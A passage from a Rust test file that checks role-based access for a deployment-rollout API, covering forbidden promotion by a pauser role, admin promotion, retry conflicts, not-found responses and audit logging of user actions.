        .call("POST", "/api/v1/rollouts/web/promote", Some(&pauser), "")
        .await;
    assert_json_error(status, &json, 403, 7);

    let (status, json) = hub
        .call("POST", "/api/v1/rollouts/web/promote", Some(&admin), "")
        .await;
    assert_eq!(status, 200, "{json}");
    assert_eq!(json["paused"], false);
    // Retry applies to a rolled-back rollout only.
    let (status, json) = hub
        .call("POST", "/api/v1/rollouts/web/retry", Some(&admin), "")
        .await;
    assert_eq!(status, 409, "{json}");
    let (status, _) = hub
        .call("GET", "/api/v1/rollouts/nope", Some(&admin), "")
        .await;
    assert_eq!(status, 404);
    let events = hub.store.events().unwrap();
    assert!(
        events
            .iter()
            .any(|e| e.action == "rollout-pause" && e.actor == "pauser"),
        "writes are audited with their user"
    );
}
